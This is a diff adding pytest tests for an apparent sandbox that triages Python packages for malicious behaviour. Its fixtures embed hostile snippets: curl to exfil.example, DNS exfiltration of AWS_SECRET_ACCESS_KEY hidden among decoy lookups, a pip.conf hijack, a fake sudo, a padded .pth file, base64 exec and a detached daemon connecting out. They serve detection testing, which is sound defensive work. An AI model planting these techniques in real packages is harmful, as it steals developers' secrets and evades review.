@@ -334,3 +334,157 @@ def test_each_event_names_the_trigger_that_brought_it_about(triage: Triage, inde
             assert mine and {one["trigger"] for one in mine} == {name}, items
         pids = [one["pid"] for one in report["processes"] if one["trigger"] == name]
         assert len(pids) == 3, report["processes"]  # the launcher, the Python, the command
+
+
+# --- the package's doing, though pip or the hook could be made to look otherwise ----------------------------------------
+
+
+def test_a_build_that_sets_up_the_pip_after_it_is_not_taken_for_pip(triage: Triage, index: Index) -> None:
+    source = """
+def get_requires_for_build_wheel(config_settings=None):
+    os.makedirs("/home/dev/.config/pip", exist_ok=True)
+    with open("/home/dev/.config/pip/pip.conf", "w") as file: file.write("[global]\\npython = /home/dev/gcc\\n")
+    with open("/home/dev/gcc", "w") as file: file.write("#!/bin/sh\\ncurl http://exfil.example/\\nexit 0\\n")
+    os.chmod("/home/dev/gcc", 0o755)
+    return ["helper"]
+"""
+    index.add_wheel("helper", "1.0", {"helper.py": ""})
+    index.add_backend_sdist("planner", "1.0", "import os\n" + source, {"planner.py": ""})
+    _, report, _ = triage("planner")
+    assert report["outcome"] == "ok", report["reason"]  # the plan did not work
+    assert any("pip.conf" in title for title in findings(report, "persistence.write"))
+    assert not any("curl" in " ".join(one["argv"]) for one in report["processes"])
+
+
+def test_what_git_does_for_a_requirement_is_told(triage: Triage, index: Index) -> None:
+    index.add_wheel("outer", "1.0", {"outer.py": ""}, requires=["inner @ git+https://exfil.example/inner"])
+    _, report, _ = triage("outer", RUN_TIMEOUT_SEC=20)
+    assert any("git" in title for title in findings(report, "process.spawn")), report["findings"]
+
+
+def test_a_host_that_pip_is_sent_to_is_told(triage: Triage, index: Index) -> None:
+    link = "inner @ https://exfil.example/inner-1.0-py3-none-any.whl"
+    index.add_wheel("outer", "1.0", {"outer.py": ""}, requires=[link])
+    _, report, _ = triage("outer", RUN_TIMEOUT_SEC=20)
+    assert any("exfil.example" in title for title in findings(report, "network.attempt")), report["findings"]
+
+
+def test_a_build_s_program_with_a_compiler_s_name_is_no_compiler(triage: Triage, index: Index) -> None:
+    prelude = "import shutil, subprocess\nshutil.copy('/bin/true', '/tmp/gcc')\nsubprocess.run(['/tmp/gcc', 'steal'])\n"
+    index.add_backend_sdist("compiling", "1.0", prelude, {"compiling.py": ""})
+    _, report, _ = triage("compiling")
+    spawned = [one for one in report["findings"] if one["rule"] == "process.spawn" and "steal" in one["title"]]
+    assert [one["severity"] for one in spawned] == ["medium"]
+
+
+UNSEEN = {
+    "a datagram to an address of no family": (
+        """
+libc.sendto.argtypes = None
+address = struct.pack("=H", 0) + struct.pack(">H", 53) + socket.inet_aton("192.0.2.9") + bytes(8)
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp: libc.sendto(udp.fileno(), b"stolen", 6, 0, address, 16)
+""",
+        "network.attempt",
+        "192.0.2.9:53",
+    ),
+    "a folder that nobody may read": (
+        """
+os.makedirs("/home/dev/.local/bin")
+with open("/home/dev/.local/bin/sudo", "w") as file: file.write("evil")
+os.chmod("/home/dev/.local/bin", 0)
+os.chmod("/home/dev/.local", 0)
+""",
+        "persistence.write",
+        "/home/dev/.local/bin/sudo",
+    ),
+    "a .pth file that hides its line behind a million others": (
+        """
+site = os.path.dirname(os.path.abspath(__file__))
+with open(site + "/fat.pth", "w") as file: file.write("#" * 99 + "\\n")
+with open(site + "/fat.pth", "a") as file: file.write(("#" * 99 + "\\n") * 11_000 + "import os\\n")
+""",
+        "pth.code",
+        "fat.pth",
+    ),
+    "a decoy among two thousand names": (
+        """
+for n in range(2100):
+    try: socket.gethostbyname(f"n{n}.example")
+    except OSError: pass
+value = os.environ["AWS_SECRET_ACCESS_KEY"]
+try: socket.gethostbyname(f"{value[:20]}.{value[20:]}.exfil.example")
+except OSError: pass
+""",
+        "secret.read",
+        "AWS_SECRET_ACCESS_KEY",
+    ),
+}
+
+
+@pytest.mark.parametrize(("source", "rule", "words"), UNSEEN.values(), ids=UNSEEN)
+def test_what_is_done_by_an_odd_way_is_told_all_the_same(
+    triage: Triage, index: Index, source: str, rule: str, words: str
+) -> None:
+    add_probe(index, source)
+    _, report, _ = triage("probe", "--mode", "import")
+    assert report["outcome"] == "ok", report["reason"]
+    assert any(words in title for title in findings(report, rule)), report["findings"]
+
+
+def test_a_module_named_like_one_of_the_library_does_not_stand_for_it(triage: Triage, index: Index) -> None:
+    deaf = "raise SystemExit('this is not the library')\n"
+    source = "import base64\nexec(base64.b64decode('cHJpbnQoImRlY29kZWQiKQ=='))\n"
+    index.add_wheel("probe", "1.0", {"probe.py": source, "json.py": deaf, "enum.py": deaf, "typing.py": deaf})
+    _, report, _ = triage("probe", "--mode", "execute_module", "--module-name", "probe")
+    assert (report["outcome"], report["phases"][-1]["stdout"]["text"]) == ("ok", "decoded\n"), report["phases"][-1]
+    assert findings(report, "code.dynamic")
+
+
+def test_the_hook_is_made_of_the_library_whatever_the_path_says(triage: Triage, index: Index) -> None:
+    source = """
+import subprocess
+os.mkdir("/tmp/path")
+with open("/tmp/path/json.py", "w") as file: file.write("raise ImportError")
+code = "import base64; exec(base64.b64decode('cHJpbnQoImRlY29kZWQiKQ=='))"
+subprocess.run([sys.executable, "-c", code], env={"PYTHONPATH": "/tmp/path", "HOME": "/home/dev"})
+"""
+    add_probe(index, source)
+    _, report, _ = triage("probe", "--mode", "import")
+    assert "decoded" in report["phases"][-1]["stdout"]["text"], report["phases"][-1]
+    assert findings(report, "code.dynamic")
+
+
+def test_a_sitecustomize_that_is_installed_is_told(triage: Triage, index: Index) -> None:
+    index.add_wheel("probe", "1.0", {"probe.py": "", "sitecustomize.py": "print('at every start')\n"})
+    _, report, _ = triage("probe", "--mode", "import")
+    assert report["phases"][-1]["stdout"]["text"] == "at every start\n"
+    assert any("sitecustomize.py" in title for title in findings(report, "pth.code"))
+
+
+def test_a_decoy_s_value_does_not_get_to_the_index(triage: Triage, index: Index) -> None:
+    prelude = """
+import os, socket
+with socket.create_connection(("127.0.0.1", 3141)) as one:
+    os.write(one.fileno(), b"GET /simple/x" + os.environ["AWS_SECRET_ACCESS_KEY"].encode() + b"/ HTTP/1.1\\r\\n\\r\\n")
+    one.recv(100)
+"""
+    index.add_backend_sdist("telling", "1.0", prelude, {"telling.py": ""})
+    _, report, _ = triage("telling")
+    assert any("AWS_SECRET_ACCESS_KEY" in title for title in findings(report, "secret.read")), report["findings"]
+    assert not [path for _, path in index.requests if path.startswith("/simple/x")]
+
+
+def test_what_waits_for_the_end_of_the_phase_is_told(triage: Triage, index: Index) -> None:
+    source = """
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.closerange(0, 3)
+        time.sleep(60)
+        socket.socket().connect_ex(("192.0.2.1", 443))
+    os._exit(0)
+"""
+    add_probe(index, source)
+    _, report, _ = triage("probe", "--mode", "import")
+    assert findings(report, "limit.hit") == ["left 1 processes at work, which were ended with the phase"]
+    assert any("waiting" in note for note in report["coverage"]["notes"])
